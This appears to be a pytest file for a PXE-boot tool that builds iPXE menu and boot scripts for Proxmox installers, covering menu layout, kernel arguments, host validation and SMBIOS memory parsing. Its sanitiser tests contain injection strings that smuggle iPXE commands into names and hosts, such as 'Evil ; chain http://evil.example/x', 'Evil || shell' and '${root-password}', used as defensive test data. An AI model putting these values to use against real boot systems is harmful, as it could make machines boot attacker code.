"""
The iPXE scripts: the chain script, the boot script, the menu, and what goes into them
(display text, host names, the machine's memory from SMBIOS).
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pxepilot.boot.catalogue import Asset, Initrd
from pxepilot.boot.ipxe import (
    LOCAL,
    MENU_QUERY,
    MIN_MEMORY_MIB,
    SHELL,
    Choice,
    Machine,
    boot_script,
    chain_script,
    display,
    kernel_arguments,
    menu_script,
    smbios_memory_mib,
    valid_host,
)
from pxepilot.macs import MacAddress

ASSET_URL = "http://192.0.2.10:8080/assets/"
MENU_URL = "http://192.0.2.10:8080/menu.ipxe?mac=aa:bb:cc:dd:ee:01&platform=efi"
MAC = MacAddress.parse("aa:bb:cc:dd:ee:01")
CMDLINE = "ramdisk_size=16777216 rw quiet splash=silent proxmox-start-auto-installer"
COMBINED = (Initrd("initrd"),)
NAMED = (Initrd("initrd.img"), Initrd("proxmox.iso", "proxmox.iso"))
# What iPXE's command line treats as the end of a command, wherever it stands.
SEPARATORS = ("||", "&&", ";")


def asset(
    directory: str = "proxmox-ve/9.1-1",
    product_name: str = "Proxmox VE",
    release: str = "9.1",
    iso_release: str = "1",
    initrds: tuple[Initrd, ...] = COMBINED,
    kernel_cmdline: str = CMDLINE,
    product: str = "pve",
) -> Asset:
    return Asset(
        directory=directory,
        product=product,
        product_name=product_name,
        release=release,
        iso_release=iso_release,
        layout="combined" if len(initrds) == 1 else "named",
        kernel="vmlinuz",
        initrds=initrds,
        kernel_cmdline=kernel_cmdline,
        mtime=0.0,
    )


PVE_91 = asset()
PVE_84 = asset("proxmox-ve/8.4-1", release="8.4")
PBS_40 = asset(
    "proxmox-backup-server/4.0-1",
    "Proxmox Backup Server",
    "4.0",
    product="pbs",
)
EFI = Machine(MAC, "efi", 8192)
BIOS = Machine(MAC, "pcbios", 8192)
CHOICE = Choice("proxmox-ve/9.1-1", 10, "answer file present")


def menu(
    assets: list[Asset] | None = None,
    machine: Machine = EFI,
    choice: Choice = CHOICE,
    extra: str = "",
) -> list[str]:
    """
    The menu's lines.
    """
    script = menu_script(
        [PVE_91, PVE_84] if assets is None else assets,
        ASSET_URL,
        MENU_URL,
        machine,
        choice,
        extra,
    )
    return script.split("\n")


def section(lines: list[str], label: str) -> list[str]:
    """
    The lines from C{:label} to the next blank line.
    """
    start = lines.index(f":{label}")
    end = lines.index("", start)
    return lines[start + 1 : end]


def labels(script: str) -> set[str]:
    return {line[1:] for line in script.split("\n") if line.startswith(":")}


def goto_targets(script: str) -> set[str]:
    return set(re.findall(r"\bgoto (\S+)", script)) - {"${target}"}


def structure(script: str) -> list[list[str]]:
    """
    How iPXE splits each line into commands: the separator and comment words of
    every line.
    """
    return [
        [w for w in line.split() if w in SEPARATORS or w.startswith("#")]
        for line in script.split("\n")
    ]


def test_menu_items_newest_first() -> None:
    """
    One item per version, in the order given (newest first), showing the product's
    long name and the version, under one heading per product.
    """
    items = [line for line in menu() if line.startswith("item ")]
    assert items[:4] == [
        f"item --gap -- Machine {MAC}, 8192 MiB of memory",
        "item --gap -- Proxmox VE",
        "item install-0 Install Proxmox VE 9.1-1",
        "item install-1 Install Proxmox VE 8.4-1",
    ]


def test_menu_products_headed() -> None:
    """
    Each product gets a heading before its versions.
    """
    items = [line for line in menu([PBS_40, PVE_91, PVE_84]) if line.startswith("item ")]
    assert items[1:6] == [
        "item --gap -- Proxmox Backup Server",
        "item install-0 Install Proxmox Backup Server 4.0-1",
        "item --gap -- Proxmox VE",
        "item install-1 Install Proxmox VE 9.1-1",
        "item install-2 Install Proxmox VE 8.4-1",
    ]


def test_menu_local_and_shell() -> None:
    """
    After the versions come the local disk and the iPXE shell: the local disk exits
    iPXE (the firmware boots on), the shell comes back to the menu.
    """
    lines = menu()
    items = [line for line in lines if line.startswith("item ")]
    assert items[-3:] == [
        "item --gap --",
        f"item {LOCAL} Boot from the local disk",
        f"item {SHELL} iPXE shell",
    ]
    assert section(lines, LOCAL) == ["echo Booting from the local disk ...", "exit"]
    assert section(lines, SHELL) == [
        "echo Type exit to come back to the menu.",
        "shell",
        "goto menu",
    ]


def test_menu_header() -> None:
    """
    The script starts with iPXE's signature, a comment saying why the default was
    chosen, and the C{menu} label the shell and failures come back to.
    """
    lines = menu()
    assert lines[:4] == [
        "#!ipxe",
        f"# pxe-pilot menu for {MAC}: answer file present",
        ":menu",
        "menu pxe-pilot: Proxmox installation",
    ]


def test_menu_unknown_machine() -> None:
    """
    Without a MAC address or memory size, the machine line says so plainly.
    """
    lines = menu(machine=Machine())
    assert "item --gap -- Machine this machine" in lines
    assert lines[1].startswith("# pxe-pilot menu for this machine: ")


@pytest.mark.parametrize(
    ("default", "label"),
    [
        ("proxmox-ve/9.1-1", "install-0"),
        ("proxmox-ve/8.4-1", "install-1"),
        (LOCAL, LOCAL),
        (SHELL, SHELL),
        ("proxmox-ve/7.0-1", LOCAL),
        ("install-0", LOCAL),
    ],
)
def test_menu_choose(default: str, label: str) -> None:
    """
    The default is the chosen version's item, the local disk or the shell; anything
    else falls back to the local disk. The timeout is given in milliseconds, and a
    failed or cancelled choice boots the local disk.
    """
    lines = menu(choice=Choice(default, 7, "why"))
    choose_line = f"choose --default {label} --timeout 7000 target || goto {LOCAL}"
    assert choose_line in lines
    assert lines[lines.index(choose_line) + 1] == "goto ${target}"


def test_menu_timeout_zero_waits() -> None:
    """
    A timeout of 0 waits for a person: C{choose} gets no C{--timeout}.
    """
    lines = menu(choice=Choice("proxmox-ve/9.1-1", 0, "why"))
    assert "choose --default install-0 target || goto local" in lines
    assert not any("--timeout" in line for line in lines)


def test_menu_without_assets() -> None:
    """
    Without versions the menu says how to make some, and offers the local disk and
    the shell, defaulting to the local disk.
    """
    lines = menu([], choice=Choice("proxmox-ve/9.1-1", 10, "why"))
    assert "item --gap -- No boot assets found: run pxe-pilot-builder" in lines
    assert not any(line.startswith("item install-") for line in lines)
    assert "choose --default local --timeout 10000 target || goto local" in lines


@pytest.mark.parametrize(
    ("machine", "extra", "arguments"),
    [
        (BIOS, "", CMDLINE),
        (EFI, "", f"{CMDLINE} initrd=initrd"),
        (Machine(MAC), "", CMDLINE),
        (BIOS, "  console=ttyS0,115200 ", f"{CMDLINE} console=ttyS0,115200"),
        (EFI, "console=ttyS0,115200", f"{CMDLINE} console=ttyS0,115200 initrd=initrd"),
    ],
)
def test_menu_kernel_line(machine: Machine, extra: str, arguments: str) -> None:
    """
    The kernel comes from the version's directory under the asset URL, with the
    asset's command line, then the extra arguments, then (UEFI only) the initrd's
    name; a failure goes to C{failed}.
    """
    lines = menu(machine=machine, extra=extra)
    assert section(lines, "install-0")[1] == (
        f"kernel {ASSET_URL}proxmox-ve/9.1-1/vmlinuz {arguments} || goto failed"
    )


@pytest.mark.parametrize(
    ("initrds", "platform", "arguments"),
    [
        (COMBINED, "efi", "quiet initrd=initrd"),
        (COMBINED, "pcbios", "quiet"),
        (COMBINED, None, "quiet"),
        ((Initrd("initrd.img"),), "efi", "quiet initrd=initrd.img"),
        (NAMED, "efi", "quiet"),
        ((Initrd("initrd", "initrd"),), "efi", "quiet"),
        ((Initrd("a"), Initrd("b")), "efi", "quiet"),
    ],
)
def test_kernel_arguments_initrd(
    initrds: tuple[Initrd, ...], platform: str | None, arguments: str
) -> None:
    """
    C{initrd=<file>} is added only on UEFI and only for a single unnamed initrd.
    """
    subject = asset(initrds=initrds, kernel_cmdline="quiet")
    assert kernel_arguments(subject, Machine(MAC, platform), "") == arguments


@pytest.mark.parametrize(
    ("cmdline", "extra", "arguments"),
    [
        ("", "", ""),
        ("", " console=ttyS0 ", "console=ttyS0"),
        ("quiet", "", "quiet"),
        ("quiet", "console=ttyS0", "quiet console=ttyS0"),
    ],
)
def test_kernel_arguments_join(cmdline: str, extra: str, arguments: str) -> None:
    """
    The command line and the extra arguments are joined by single spaces, with no
    leading or trailing space when either is empty.
    """
    subject = asset(kernel_cmdline=cmdline)
    assert kernel_arguments(subject, BIOS, extra) == arguments


def test_menu_install_section_combined() -> None:
    """
    An install entry announces itself, loads the kernel and the initrd, and boots;
    each step that fails goes to C{failed}.
    """
    lines = menu(machine=BIOS)
    assert section(lines, "install-1") == [
        "echo Loading Proxmox VE 8.4-1 ...",
        f"kernel {ASSET_URL}proxmox-ve/8.4-1/vmlinuz {CMDLINE} || goto failed",
        f"initrd {ASSET_URL}proxmox-ve/8.4-1/initrd || goto failed",
        "boot || goto failed",
    ]


def test_menu_install_section_named() -> None:
    """
    Named initrds are loaded under their name (C{initrd URL name}), in order; an
    unnamed one is loaded without.
    """
    lines = menu([asset(initrds=NAMED)])
    assert section(lines, "install-0")[2:] == [
        f"initrd {ASSET_URL}proxmox-ve/9.1-1/initrd.img || goto failed",
        f"initrd {ASSET_URL}proxmox-ve/9.1-1/proxmox.iso proxmox.iso || goto failed",
        "boot || goto failed",
    ]


def test_menu_failure_goes_back_to_menu() -> None:
    """
    A failed download says so, frees what was loaded, waits and fetches the menu
    again from its URL; if even that fails, the menu already loaded is shown.
    """
    lines = menu()
    assert section(lines, "failed") == [
        "echo Loading failed (${errno}): back to the menu in 10 seconds.",
        "imgfree",
        "sleep 10",
        f"chain --autofree {MENU_URL} || goto menu",
    ]


@pytest.mark.parametrize("assets", [[], [PVE_91], [PBS_40, PVE_91, PVE_84]])
def test_menu_labels_exist(assets: list[Asset]) -> None:
    """
    Every C{goto} and every item has a label to go to, and labels are unique.
    """
    script = menu_script(assets, ASSET_URL, MENU_URL, EFI, CHOICE)
    found = [line[1:] for line in script.split("\n") if line.startswith(":")]
    assert len(found) == len(set(found))
    items = set(re.findall(r"^item (?!--)(\S+)", script, re.MULTILINE))
    assert items == {LOCAL, SHELL} | {f"install-{i}" for i in range(len(assets))}
    assert goto_targets(script) | items <= labels(script)


@pytest.mark.parametrize("memory", [1024, MIN_MEMORY_MIB - 1])
def test_menu_low_memory_warning(memory: int) -> None:
    """
    A machine known to have less memory than the installer needs gets a warning in
    the menu and before each installation.
    """
    lines = menu(machine=Machine(MAC, "efi", memory))
    warning = f"item --gap -- WARNING: the installer needs at least {MIN_MEMORY_MIB} MiB of memory"
    assert warning in lines
    assert f"item --gap -- Machine {MAC}, {memory} MiB of memory" in lines
    for label in ("install-0", "install-1"):
        assert section(lines, label)[0] == (
            f"echo WARNING: {memory} MiB of memory; the installer needs at least "
            f"{MIN_MEMORY_MIB} MiB."
        )


@pytest.mark.parametrize("memory", [None, 0, MIN_MEMORY_MIB, 65536])
def test_menu_no_memory_warning(memory: int | None) -> None:
    """
    No warning when the memory is unknown (or reported as 0) or enough.
    """
    script = "\n".join(menu(machine=Machine(MAC, "efi", memory)))
    assert "WARNING" not in script
    assert ("MiB of memory" in script) == bool(memory)


def test_menu_reason_is_display_text() -> None:
    """
    The reason in the comment line cannot end the comment or expand anything.
    """
    lines = menu(choice=Choice(LOCAL, 10, "'x\n${y}' from\r\nchain http://evil/ || shell"))
    assert lines[1].startswith(f"# pxe-pilot menu for {MAC}: ")
    assert "${" not in lines[1]
    assert lines[2] == ":menu"


HOSTILE = [
    "Evil ${root-password}",
    "Evil ${net0/mac:hexhyp}",
    "Evil\n:local\nchain http://evil.example/x",
    "Evil\r\nshell",
    "Evil ; chain http://evil.example/x",
    "Evil || shell",
    "Evil && shell",
    "Evil #1",
    "#!ipxe",
    "Evil \\",
    'Evil "quoted',
    "Evil 'quoted",
    "\x1b[2JEvil\x00\x7f",
    "Evil\u2028shell\u0085",
    "{}$",
    "$${{}}",
    ";",
    "||",
    "#",
    "\t",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_stay_text(name: str) -> None:
    """
    A hostile product long name or version never reaches the script raw: the script
    has the same lines, the same commands on each line and the same expansions as
    with harmless names.
    """
    hostile = [
        asset(product_name=name, release=name, iso_release=name),
        asset("proxmox-ve/8.4-1", product_name=name, release=name),
    ]
    for machine in (EFI, Machine(MAC, "pcbios", 1024)):
        bad = menu_script(hostile, ASSET_URL, MENU_URL, machine, CHOICE)
        good = menu_script([PVE_91, PVE_84], ASSET_URL, MENU_URL, machine, CHOICE)
        assert len(bad.split("\n")) == len(good.split("\n"))
        assert bad.count("$") == good.count("$")
        assert bad.count("{") == good.count("{")
        assert structure(bad) == structure(good)
        assert labels(bad) == labels(good)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Proxmox VE", "Proxmox VE"),
        ("  Proxmox \t  VE  ", "Proxmox VE"),
        ("${x}", "x"),
        ("a\\b", "ab"),
        ("\"quoted\" 'single'", "quoted single"),
        ("line\none", "line one"),
        ("bell\x07", "bell"),
        ("A ; B", "A B"),
        ("A || B", "A B"),
        ("A && B", "A B"),
        ("#1 A", "1 A"),
        ("R&D a;b a|b C#", "R&D a;b a|b C#"),
        ("Grüße", "Grüße"),
    ],
)
def test_display(text: str, shown: str) -> None:
    """
    Display text keeps ordinary text and collapses white space; it loses what iPXE
    would expand (C{$}, braces), unquote or escape (quotes, backslash), split a line on
    (control characters) or take as the end of a command or the start of a comment.
    """
    assert display(text) == shown


def test_display_limit() -> None:
    """
    Display text is cut to the limit.
    """
    assert display("x" * 100) == "x" * 70
    assert display("x" * 100, 10) == "x" * 10
    assert display("word " * 5, 12) == "word word wo"


@given(st.text(), st.integers(min_value=1, max_value=200))
def test_display_safe(text: str, limit: int) -> None:
    """
    For any text, display text is short enough, printable, free of what iPXE
    expands, escapes or splits on, and unchanged by a second pass.
    """
    shown = display(text, limit)
    assert len(shown) <= limit
    assert shown.isprintable()
    assert not set(shown) & set("${}\\\"'")
    assert shown == " ".join(shown.split())
    assert not any(w in SEPARATORS or w.startswith("#") for w in shown.split())
    assert display(shown, limit) == shown


@pytest.mark.parametrize(
    "host",
    [
        "pxe",
        "pxe.example.com",
        "pxe.example.com:8080",
        "pxe-1.example.com:1",
        "192.0.2.10",
        "192.0.2.10:8080",
        "[2001:db8::1]:8080",
        "[2001:db8::1]",
        "[::ffff:192.0.2.10]:80",
    ],
)
def test_valid_host(host: str) -> None:
    """
    Host names, IPv4 and bracketed IPv6 addresses, each with an optional port, can go
    into a script's URL.
    """
    assert valid_host(host)


@pytest.mark.parametrize(
    "host",
    [
        "",
        " ",
        "pxe example",
        "pxe.example.com ",
        "pxe/evil",
        "pxe:80/x",
        "pxe$x",
        "${host}",
        "pxe\n",
        "pxe\nchain http://evil",
        "pxe\r",
        "pxe\t",
        "pxe:65536",
        "[::1]:99999",
        "pxe:",
        ":8080",
        "pxe:123456",
        "pxe:80:80",
        "-pxe",
        ".pxe",
        "user@pxe",
        "pxe?x",
        "pxe#x",
        "pxe\\x",
        "pxe'x",
        'pxe"x',
        "2001:db8::1",
        "[2001:db8::1",
        "[]",
        "[::1]:",
        "[fe80::1%eth0]",
        "pxé",
    ],
)
def test_invalid_host(host: str) -> None:
    """
    Anything with white space, a path, an expansion, quotes, an unbracketed IPv6
    address or an empty or overlong port is refused.
    """
    assert not valid_host(host)


@pytest.mark.parametrize(
    ("devices", "mib"),
    [
        ("0004-.", 1024),
        ("0004-", 1024),
        ("0004", 1024),
        ("0004-00000000.", 1024),
        ("0004-.0004-.", 2048),
        ("0040-.0040-.0020-.", 40960),
        ("00C0-.", 16),
        ("00c0-.0004-.", 1040),
        ("0080-.", None),
        ("ff7f-00800000.", 32768),
        ("ff7f-00800080.", 32768),
        ("ff7f-00800000.0040-.", 32768 + 16384),
        ("ff7f-.", None),
        ("ff7f-0080.", None),
        ("ffff-.", None),
        ("FFFF-.0004-.", 1024),
        ("0000-.", None),
        ("0000-.0004-.", 1024),
        ("", None),
        (".", None),
        ("...", None),
        ("garbage", None),
        ("zz04-.0004-.", 1024),
        ("004-.", None),
        ("000400-.", None),
        ("04-.", None),
        ("0004-0.", None),
        ("-00800000.", None),
    ],
)
def test_smbios_memory(devices: str, mib: int | None) -> None:
    """
    Sizes are summed over the devices: the size word in MiB, in KiB with bit 15
    set, from the extended size dword for C{0x7fff}; C{0xffff} (unknown), C{0}
    (empty slot) and malformed entries count for nothing; a total of 0 is None.
    """
    assert smbios_memory_mib(devices) == mib


def test_smbios_memory_device_limit() -> None:
    """
    At most 256 devices count, as many as the boot script can gather.
    """
    assert smbios_memory_mib("0001-." * 300) == 256 * 256


def test_smbios_memory_from_boot_script_format() -> None:
    """
    What the boot script's loop builds for a pre-2.7 1 GiB module (no extended size)
    and a 2.7+ 32 GiB module reads back as their sum.
    """
    devices = [("0004", ""), ("ff7f", "00800000"), ("0000", "00000000")]
    gathered = "".join(f"{size}-{extended}." for size, extended in devices if size != "0000")
    assert smbios_memory_mib(gathered) == 1024 + 32768


MENU = "http://192.0.2.10:8080/menu.ipxe"
# iPXE runs DHCP only without an address: not IPv4's, not one from DHCPv6 or a router's
# prefix (iPXE 2019's settings blocks); on an IPv6-only network a needless "dhcp" waits
# for IPv4's DHCP to time out.
CONFIGURE_NETWORK = "isset ${ip} || isset ${netX.dhcpv6/ip6} || isset ${netX.ndp.0/ip6} || dhcp"


def test_boot_script_fetches_menu() -> None:
    """
    The boot script gets an address if it has none, gathers the SMBIOS memory
    devices, then chains to the menu with the machine's details in the query.
    """
    lines = boot_script(MENU).split("\n")
    assert lines[0] == "#!ipxe"
    chain = f"chain --autofree {MENU}?{MENU_QUERY} || goto failed"
    assert chain in lines
    dhcp = lines.index(CONFIGURE_NETWORK)
    start = lines.index("set memdevs")
    done = lines.index(":memory_done")
    assert dhcp < start < lines.index(":memory") < done < lines.index(":menu")
    assert lines.index(":menu") + 1 == lines.index(chain)
    loop = lines[start:done]
    assert "set memslot:int32 0" in loop
    assert "inc memslot" in loop
    assert "iseq ${memslot} 256 || goto memory" in loop
    assert "isset ${smbios/${memslot}.17.12.2:hexraw} || goto memory_done" in loop
    assert (
        "iseq ${smbios/${memslot}.17.12.2:hexraw} 0000 || set memdevs "
        "${memdevs}${smbios/${memslot}.17.12.2:hexraw}-${smbios/${memslot}.17.28.4:hexraw}."
    ) in loop


def test_menu_query() -> None:
    """
    The menu request carries the MAC, firmware, architecture, memory and gathered
    memory devices, and the SMBIOS identity, as iPXE settings; the serial number and
    product name, which may hold spaces and ampersands, escaped for a URL.
    """
    fields = dict(part.split("=", 1) for part in MENU_QUERY.split("&"))
    assert fields == {
        "mac": "${netX/mac}",
        "platform": "${platform}",
        "buildarch": "${buildarch}",
        "memsize": "${memsize}",
        "memdevs": "${memdevs}",
        "uuid": "${uuid}",
        "serial": "${serial:uristring}",
        "product": "${product:uristring}",
    }
    assert " " not in MENU_QUERY


def test_boot_script_retries() -> None:
    """
    When the menu cannot be loaded, the boot script says so, waits and tries again.
    """
    script = boot_script(MENU)
    lines = script.split("\n")
    assert lines[lines.index(":failed") + 1 :] == [
        "echo pxe-pilot: cannot load the menu (${errno}); trying again in 10 seconds",
        "sleep 10",
        "goto menu",
        "",
    ]
    assert goto_targets(script) <= labels(script)


def test_chain_script() -> None:
    """
    The chain script sends an iPXE that is already running on to the boot script
    over HTTP, and keeps trying every 10 seconds when that fails.
    """
    url = "http://192.0.2.10:8080/boot.ipxe"
    script = chain_script(url)
    lines = script.split("\n")
    assert lines[0] == "#!ipxe"
    assert lines[2] == CONFIGURE_NETWORK
    assert lines[3] == f"chain --autofree {url} || goto failed"
    assert lines[4:] == [
        ":failed",
        f"echo pxe-pilot: cannot load {url} (${{errno}}); trying again in 10 seconds",
        "sleep 10",
        f"chain --autofree {url} || goto failed",
        "",
    ]
    assert goto_targets(script) <= labels(script)
